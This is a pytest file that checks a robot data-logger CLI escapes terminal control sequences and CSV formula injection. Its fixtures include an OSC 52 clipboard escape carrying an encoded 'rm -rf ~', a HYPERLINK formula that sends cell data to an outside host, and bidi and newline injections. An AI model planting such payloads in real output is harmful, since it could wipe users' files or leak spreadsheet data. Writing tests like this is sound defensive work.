"""What a robot wrote is printed as text: it moves no cursor, is not a formula, and stays on its line, whatever it is read by."""

from __future__ import annotations

import csv
import io
import json
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hostile import bad_parts
from lake.making import NOON_NS, add_part, folder_store, row

from shadowhound_data_logger.cli.main import main
from shadowhound_data_logger.cli.missions import missions
from shadowhound_data_logger.cli.query import query
from shadowhound_data_logger.core.config import UploadSettings
from shadowhound_data_logger.core.untrusted import csv_cell, visible
from shadowhound_data_logger.missions.folder import new_folder
from shadowhound_data_logger.missions.journal import Journal
from shadowhound_data_logger.stores import open_store

CLIPBOARD = '\x1b]52;c;cm0gLXJmIH4=\x07'
"""OSC 52: puts a command where the next paste takes it from."""
EVIL = {
    'key': f'thor/camera/{CLIPBOARD}\nsensor-data/tachi/b\r\x9b31m\u202e.jpg',
    'topic': '=HYPERLINK("http://x/"&A1)', 'mission_type': '+1+1', 'pose_frame': '-2+3', 'sensor': '@SUM(A1)', 'type': '\t=1',
    'clock': ' =1', 'content_type': '＝1', 'run_id': '-12.5', 'x': -1.5,
}  # fmt: skip


@pytest.fixture
def home(tmp_path: Path) -> Path:
    with closing(open_store(folder_store(tmp_path), UploadSettings())) as store:
        add_part(store, [{**row('camera', NOON_NS), **EVIL}], 'evil', tmp_path / 'tmp')
    return tmp_path


def run(home: Path, *arguments: str, command: Any = query) -> Result:
    env = {'SHADOWHOUND_HOME': str(home), 'COLUMNS': '200', 'AWS_ENDPOINT_URL': ''}
    found = CliRunner().invoke(command, arguments, env=env, standalone_mode=False)
    assert found.exception is None, found.exception
    return found


def is_harmless(text: str) -> bool:
    """Of control characters it has line breaks alone."""
    return all(line == visible(line) for line in text.split('\n'))


@pytest.mark.parametrize('kind', ['table', 'csv', 'json', 'keys'])
def test_nothing_reaches_the_terminal(home: Path, kind: str) -> None:
    """In any format, also where SQL selects it under another name."""
    for arguments in ((), ('SELECT bucket, key, topic AS "a\x1b[31m" FROM objects',)):
        found = run(home, *arguments, '--format', kind)
        assert is_harmless(found.output)
        assert 'thor/camera/' in found.output


def test_a_key_is_one_line(home: Path) -> None:
    """Another program that reads keys line by line is told of none that is not there."""
    assert len(run(home, '--format', 'keys').output.splitlines()) == 1


def test_csv_holds_no_formulas(home: Path) -> None:
    """What a spreadsheet would compute begins with a quote; numbers stay numbers, negative ones too."""
    found = next(csv.DictReader(io.StringIO(run(home, '--format', 'csv').output)))
    told = {name: found[name] for name in EVIL if name != 'key'}
    assert told == {
        'topic': '\'=HYPERLINK("http://x/"&A1)', 'mission_type': "'+1+1", 'pose_frame': "'-2+3", 'sensor': "'@SUM(A1)",
        'type': '\\t=1', 'clock': "' =1", 'content_type': "'＝1", 'run_id': '-12.5', 'x': '-1.5',
    }  # fmt: skip
    assert '\n' not in found['key']


def test_a_mission_is_exported_the_same_way(tmp_path: Path) -> None:
    """What an agent logged, as CSV."""
    folder = new_folder(tmp_path, 'patrol', NOON_NS)
    journal = Journal(folder.journal)
    journal.create()
    journal.append({'k': 'start', 't': NOON_NS, 'type': 'patrol', 'command': '=cmd()', 'robot': 'thor', 'params': {}, 'tags': {}})
    journal.append({'k': 'event', 't': NOON_NS, 'name': f'@x{CLIPBOARD}', 'data': {'a': 1}})
    journal.append({'k': 'metric', 't': NOON_NS, 'key': '+a', 'value': -2.5, 'step': 0})
    journal.close()
    found = run(tmp_path, 'export', '--format', 'csv', folder.mission_id, command=missions)
    rows = list(csv.reader(io.StringIO(found.output)))
    assert is_harmless(found.output)
    assert not [cell for one in rows for cell in one if cell[:1] in set('=+@')]
    assert "'@x" in found.output


def test_an_error_names_it_without_obeying_it(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """On standard error, by the console script's own way out."""
    key = bad_parts.put(folder_store(home), b'', f'thor_{CLIPBOARD}')
    monkeypatch.setenv('SHADOWHOUND_HOME', str(home))
    monkeypatch.setenv('AWS_ENDPOINT_URL', '')
    for arguments in (
        ['query', '--json'],
        ['bag', 'fetch', CLIPBOARD, '--to', str(home)],
    ):
        monkeypatch.setattr(sys, 'argv', ['shadowhound-data', *arguments])
        with pytest.raises(SystemExit) as caught:
            main()
        assert caught.value.code in {1, 2}
        said = capsys.readouterr()
        assert is_harmless(said.err)
        assert is_harmless(said.out)
        assert visible(CLIPBOARD)[4:10] in said.err
    assert CLIPBOARD in key


@pytest.mark.parametrize(
    ('value', 'cell'),
    [
        ('-0.6', '-0.6'),
        ('1e5', '1e5'),
        ('-', "'-"),
        (-3, -3),
        (None, None),
        (True, True),
        ('', ''),
        ('a=b', 'a=b'),
        ('-1-2', "'-1-2"),
    ],
)
def test_cells(value: Any, cell: Any) -> None:
    """A text that is nothing but a number computes nothing."""
    assert csv_cell(value) == cell


def test_json_is_ascii(home: Path) -> None:
    """And reads back as what was written."""
    told = json.loads(run(home, '--json').output)
    assert told[0]['key'] == EVIL['key']
